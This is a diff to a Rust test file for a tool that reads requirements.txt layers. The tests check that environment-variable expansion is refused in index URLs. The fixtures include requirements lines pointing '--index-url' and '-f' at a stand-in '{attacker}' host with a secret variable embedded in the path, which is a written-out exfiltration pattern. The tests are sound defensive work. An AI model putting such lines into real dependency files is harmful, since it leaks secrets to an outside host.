@@ -139,16 +139,16 @@ fn locked() -> Vec<Row> {
             .variable("UV_DEFAULT_INDEX", "")
             .with(|site| site.as_attacker(&["lock"]))
             .commands(commands)
-            .refused(&["layers/app/requirements.txt:", "MY_SECRET", "hint:"])
+            .refused(&["layers/app/requirements.txt:", "INTERNAL_HOST", "hint:"])
     };
     vec![
         locked(
             "variables: with a lock that is current, and a cold cache",
-            "alpha\n--index-url http://{attacker}/open/${MY_SECRET}/simple\n",
+            "alpha\n--index-url http://{attacker}/open/${INTERNAL_HOST}/simple\n",
         ),
         locked(
             "variables: the same where wheels are linked",
-            "alpha\n--no-index\n-f http://{attacker}/open/${MY_SECRET}/alpha/\n",
+            "alpha\n--no-index\n-f http://{attacker}/open/${INTERNAL_HOST}/alpha/\n",
         ),
     ]
 }
@@ -169,16 +169,16 @@ fn allowed() -> Vec<Row> {
         .variable("UV_DEFAULT_INDEX", "")
         .variable("UV_INDEX", "{login}/none/simple")
         .variable("MIRROR", "mirror/simple")
-        .variable("LLS_ALLOW_ENV", "OTHER,MIRROR")
+        .variable("LLS_ALLOW_ENV", "LANG,MIRROR")
         .accepted(&["app"]),
         Row::app(
             "variables: another than the runner allows",
-            "alpha\n-i http://{attacker}/${MY_SECRET}/\n",
+            "alpha\n-i http://{attacker}/${INTERNAL_HOST}/\n",
         )
         .variable("UV_DEFAULT_INDEX", "")
-        .variable("LLS_ALLOW_ENV", "MY_SECRET_2,MY")
+        .variable("LLS_ALLOW_ENV", "LANG")
         .commands(&[PLAN, &["apply", "--yes"]])
-        .refused(&["layers/app/requirements.txt:2", "MY_SECRET", "hint:"])
+        .refused(&["layers/app/requirements.txt:2", "INTERNAL_HOST", "hint:"])
         .silent(),
         secret(
             "variables: a key of AWS that the runner allows by mistake",
